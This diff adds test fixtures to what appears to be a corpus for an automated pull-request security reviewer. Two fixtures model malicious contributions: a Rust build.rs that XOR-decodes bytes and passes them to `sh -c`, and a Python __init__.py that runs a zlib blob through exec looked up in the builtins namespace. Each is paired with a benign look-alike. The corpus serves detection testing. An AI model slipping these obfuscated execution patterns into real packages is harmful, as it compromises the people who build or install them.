@@ -1368,6 +1368,134 @@ export const CODE_CASES: CorpusEntry[] = [
     expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['auth-check-removed'] },
   },
   {
+    id: 'code-build-rs-xor-payload-to-shell',
+    description:
+      'Modeled on the malicious crates of 2024-2025 whose build.rs hid its command: a first-time contributor\'s "Speed up builds with a cached codegen" adds a build.rs that keeps a byte array, XORs it back into text and hands it to `sh -c` through a builder chain over three lines. No decoder name, no URL and no shell string is in the source for a reader to see.',
+    fixture: () =>
+      codePr({
+        repo: 'termlog',
+        number: 3931,
+        title: 'Speed up builds with a cached codegen',
+        author: 'newcomer',
+        files: [
+          { path: 'Cargo.toml', base: lines('[package]', 'name = "termlog"', 'version = "0.4.2"', 'edition = "2021"'), head: lines('[package]', 'name = "termlog"', 'version = "0.4.2"', 'edition = "2021"', 'build = "build.rs"') },
+          {
+            path: 'build.rs',
+            head: lines(
+              'use std::process::Command;',
+              '',
+              'const TABLE: [u8; 14] = [0x2f, 0x39, 0x3e, 0x20, 0x6c, 0x61, 0x3f, 0x6c, 0x24, 0x38, 0x38, 0x3c, 0x3f, 0x76];',
+              '',
+              'fn main() {',
+              '    println!("cargo:rerun-if-changed=build.rs");',
+              '    let cache: String = TABLE.iter().map(|b| (b ^ 0x4c) as char).collect();',
+              '    let _ = Command::new("sh")',
+              '        .arg("-c")',
+              '        .arg(&cache)',
+              '        .status();',
+              '}',
+            ),
+          },
+        ],
+      }),
+    expect: { level: 'critical', action: 'request_changes', findings: ['build-code-behavior'], drivers: ['finding:build-code-behavior'] },
+  },
+  {
+    id: 'code-build-rs-git-hash-quiet',
+    description: 'The benign look-alike: a member adds a build.rs that asks git for the commit (`Command::new("git").args(["rev-parse", "--short", "HEAD"])`) and pkg-config for a library, and passes them to the compiler as `rustc-env`. A new build script is worth a look (cargo-build-script), nothing is decoded or handed to a shell.',
+    fixture: () =>
+      codePr({
+        repo: 'termlog',
+        number: 3932,
+        title: 'Show the commit in --version',
+        files: [
+          { path: 'Cargo.toml', base: lines('[package]', 'name = "termlog"', 'version = "0.4.2"', 'edition = "2021"'), head: lines('[package]', 'name = "termlog"', 'version = "0.4.2"', 'edition = "2021"', 'build = "build.rs"') },
+          {
+            path: 'build.rs',
+            head: lines(
+              'use std::process::Command;',
+              '',
+              'fn main() {',
+              '    println!("cargo:rerun-if-changed=.git/HEAD");',
+              '    let out = Command::new("git")',
+              '        .args(["rev-parse", "--short", "HEAD"])',
+              '        .output()',
+              '        .expect("git");',
+              '    let hash = String::from_utf8_lossy(&out.stdout);',
+              '    println!("cargo:rustc-env=GIT_HASH={}", hash.trim());',
+              '    pkg_config::probe_library("zlib").unwrap();',
+              '}',
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:build-code-behavior'] },
+  },
+  {
+    id: 'code-python-exec-through-builtins-namespace',
+    description:
+      'Modeled on the PyPI droppers that keep `exec(` off the line: a first-time contributor\'s "Lazy-load color themes" adds to the package\'s `__init__.py` a lookup of exec in the builtins namespace by its name and runs a zlib-packed blob through it (`getattr(builtins, "exec")(zlib.decompress(…))`). No `exec(` for a search to find, no decoder for the decode-and-run rule.',
+    fixture: () =>
+      codePr({
+        repo: 'colorfmt',
+        number: 3933,
+        title: 'Lazy-load color themes',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'colorfmt/__init__.py',
+            base: lines('from .core import colorize, strip', '', '__all__ = ["colorize", "strip"]', '__version__ = "2.3.1"'),
+            head: lines(
+              'import builtins',
+              'import zlib',
+              '',
+              'from .core import colorize, strip',
+              '',
+              '__all__ = ["colorize", "strip"]',
+              '__version__ = "2.3.1"',
+              '',
+              '_THEMES = b"x\\x9c\\xcbH\\xcd\\xc9\\xc9W(\\xcf/\\xcaI\\x01\\x00\\x1a\\x0b\\x04]"',
+              '_load = getattr(builtins, "exec")',
+              '_load(zlib.decompress(_THEMES))',
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['obfuscated-code'], drivers: ['finding:obfuscated-code'] },
+  },
+  {
+    id: 'code-python-plugin-getattr-quiet',
+    description: 'The benign look-alike: a member adds a plugin registry that imports each configured module, takes its `register` function with `getattr` by a constant name and calls it, and compiles the name pattern with `re.compile`. Nothing is looked up in the builtins namespace and no text is run as code.',
+    fixture: () =>
+      codePr({
+        repo: 'colorfmt',
+        number: 3934,
+        title: 'Load theme plugins from entry points',
+        files: [
+          {
+            path: 'colorfmt/plugins.py',
+            head: lines(
+              'import importlib',
+              'import re',
+              '',
+              '_NAME = re.compile(r"^[a-z][a-z0-9_]*$")',
+              '',
+              '',
+              'def load_plugins(names):',
+              '    for name in names:',
+              '        if not _NAME.match(name):',
+              '            raise ValueError(f"bad plugin name: {name}")',
+              '        module = importlib.import_module(f"colorfmt_themes.{name}")',
+              '        register = getattr(module, "register", None)',
+              '        if register is not None:',
+              '            register()',
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:obfuscated-code'] },
+  },
+  {
     id: 'code-rails-devise-controller-condition-quiet',
     description: 'The benign look-alike: a member moves authentication into ApplicationController as `before_action :authenticate_user!, unless: :devise_controller?`, the form Devise documents so that its own sign-in pages are not redirected to themselves.',
     fixture: () =>
